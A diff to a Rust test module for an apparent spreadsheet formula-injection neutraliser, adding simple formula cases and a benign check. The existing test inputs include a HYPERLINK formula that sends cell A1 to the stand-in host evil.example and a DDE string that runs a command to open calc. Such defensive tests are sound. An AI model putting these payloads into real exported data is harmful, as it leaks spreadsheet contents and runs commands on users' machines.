@@ -32,6 +32,8 @@ mod tests {
         for bad in [
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
             "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=1+1",
+            "@SUM(A1)",
             "+1",
             "-1",
             "\tx",
@@ -40,6 +42,7 @@ mod tests {
             assert_eq!(neutralised(bad), format!("'{bad}"), "{bad:?}");
         }
         assert_eq!(neutralised("C-1"), "C-1");
+        assert_eq!(neutralised("sign_in"), "sign_in");
         assert_eq!(neutralised(""), "");
     }
 }
